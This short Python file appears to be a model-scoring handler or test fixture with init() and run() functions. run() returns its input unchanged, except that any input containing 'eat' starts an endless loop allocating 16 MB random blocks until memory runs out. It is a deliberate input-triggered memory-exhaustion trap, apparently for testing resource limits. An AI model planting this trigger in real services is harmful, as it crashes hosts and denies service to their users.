import os

GREEDY = []


def init():
    pass


def run(raw_data):
    if "eat" in str(raw_data):
        while True:
            GREEDY.append(os.urandom(1 << 24))
    return raw_data
